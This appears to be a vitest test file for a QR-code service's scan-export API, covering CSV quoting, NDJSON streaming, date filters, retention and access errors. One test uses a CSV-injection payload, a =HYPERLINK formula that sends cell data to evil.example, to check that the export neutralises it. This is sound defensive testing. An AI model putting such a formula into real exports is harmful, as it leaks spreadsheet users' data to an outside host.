import { DAY_MS, startOfUtcDay, utcDate } from "@qr3/core";
import { beforeEach, describe, expect, it } from "vitest";
import { describeAtClocks } from "../../../test/clocks.ts";
import { apiFetch, call, seedKey } from "./helpers.ts";
import { scanRow, storeScans } from "./scan-rows.ts";

let key: string;
let code: { id: string; short_code: string; workspace_id: string };

beforeEach(async () => {
  const seeded = await seedKey("free");
  key = seeded.key;
  const created = await call("/v1/codes", { method: "POST", key, body: { url: "https://example.com" } });
  code = { ...created.json.data, workspace_id: seeded.workspace.id };
});

async function download(query: string, k = key) {
  const response = await apiFetch(`https://api.qr3.test/v1/codes/${code.id}/scans/export${query}`, {
    headers: { authorization: `Bearer ${k}` },
  });
  return { response, text: await response.text() };
}

describeAtClocks("GET /v1/codes/:id/scans/export", ({ now }) => {
  const today = startOfUtcDay(now);
  // Scans at the same time of day as far as noon, but never later today than now: the export
  // runs to now, so a scan later today would not be in it yet.
  const timeOfDay = Math.max(0, Math.min(12 * 3600_000, now - today - 60_000));
  const at = (daysAgo: number, minute = 0) => new Date(today - daysAgo * DAY_MS + timeOfDay + minute * 60_000).toISOString();
  const date = (daysAgo: number) => utcDate(today - daysAgo * DAY_MS);

  it("streams CSV in scanned_at order with a file name, quoting referers as RFC 4180 says", async () => {
    await storeScans([
      scanRow(code, at(1), { country: "DE", referer: 'https://example.com/?a=1,2&b="3"' }),
      scanRow(code, at(2), { country: "AT", referer: "https://example.com/line\nbreak" }),
      scanRow(code, at(0), { country: "CH", ip_hash: "c".repeat(64) }),
    ]);
    const { response, text } = await download("?format=csv");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="qr3-scans-${code.short_code}-${date(6)}-to-${date(0)}.csv"`);
    expect(response.headers.get("x-request-id")).toMatch(/^req_/);
    const records = text.split("\r\n");
    expect(records[0]).toBe("id,code_id,country,region,city,device_type,os,browser,referer,language,redirected_to,ip_hash,scanned_at,is_bot");
    expect(text).toContain(`"https://example.com/?a=1,2&b=""3"""`);
    expect(text).toContain(`"https://example.com/line\nbreak"`);
    expect(text).not.toContain(code.workspace_id);
    expect(text.endsWith("\r\n")).toBe(true);
    const countries = [...text.matchAll(/,(AT|DE|CH),/g)].map((m) => m[1]);
    expect(countries).toEqual(["AT", "DE", "CH"]);
  });

  it("writes a formula-like referer as text in CSV, and raw in NDJSON", async () => {
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
    await storeScans([scanRow(code, at(1), { referer: formula, city: "@SUM(1)" })]);
    const csv = (await download("?format=csv")).text;
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")",`);
    expect(csv).toContain(`,"'@SUM(1)",`);
    expect(csv).not.toMatch(/,=HYPERLINK/);
    const line = JSON.parse((await download("?format=ndjson")).text.trimEnd());
    expect(line).toMatchObject({ referer: formula, city: "@SUM(1)" });
  });

  it("streams NDJSON, one scan per line, across many pages", async () => {
    const rows = Array.from({ length: 2500 }, (_, i) => scanRow(code, at(1 + (i % 5), i % 600)));
    await storeScans(rows);
    const { response, text } = await download("?format=ndjson");
    expect(response.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    const lines = text.trimEnd().split("\n").map((l) => JSON.parse(l));
    expect(lines).toHaveLength(2500);
    expect(new Set(lines.map((l) => l.id)).size).toBe(2500);
    const times = lines.map((l) => `${l.scanned_at}|${l.id}`);
    expect(times).toEqual([...times].sort());
    expect(Object.keys(lines[0])).toEqual(["id", "code_id", "country", "region", "city", "device_type", "os", "browser", "referer", "language", "redirected_to", "ip_hash", "scanned_at", "is_bot"]);
  });

  it("filters by from and to, both inclusive, and never exports past the retention", async () => {
    await storeScans([scanRow(code, at(0)), scanRow(code, at(2)), scanRow(code, at(3)), scanRow(code, at(5)), scanRow(code, at(30))]);
    const count = async (q: string) => (await download(`?format=ndjson${q}`)).text.trimEnd().split("\n").filter(Boolean).length;
    expect(await count(`&from=${date(3)}&to=${date(2)}`)).toBe(2);
    expect(await count(`&from=${date(3)}`)).toBe(3);
    expect(await count(`&to=${date(3)}`)).toBe(2);
    expect(await count("")).toBe(4); // free: 7 days, so the 30-day-old scan is never exported
    expect(await count(`&from=${date(60)}&to=${date(20)}`)).toBe(0);
    const header = (await download(`?from=${date(60)}&to=${date(20)}`)).text;
    expect(header.split("\r\n").filter(Boolean)).toHaveLength(1);
  });
});

describe("GET /v1/codes/:id/scans/export: query parameters and access", () => {
  it.each([
    ["format=xml", 'format: must be one of "csv", "ndjson"'],
    ["from=last-week", "from: must be a date (YYYY-MM-DD) or an ISO-8601 UTC time (2026-05-12T14:32:11Z)"],
    ["to=2026-13-01", "to: must be a date (YYYY-MM-DD) or an ISO-8601 UTC time (2026-05-12T14:32:11Z)"],
    ["from=2026-05-10&to=2026-05-01", "to: must not be before from"],
  ])("answers 400 for ?%s", async (query, message) => {
    const res = await call(`/v1/codes/${code.id}/scans/export?${query}`, { key });
    expect(res.status).toBe(400);
    expect(res.json.error).toEqual({ code: "BAD_REQUEST", message });
  });

  it("answers 404 for another workspace's code", async () => {
    const other = await seedKey();
    const res = await call(`/v1/codes/${code.id}/scans/export`, { key: other.key });
    expect(res.status).toBe(404);
  });
});
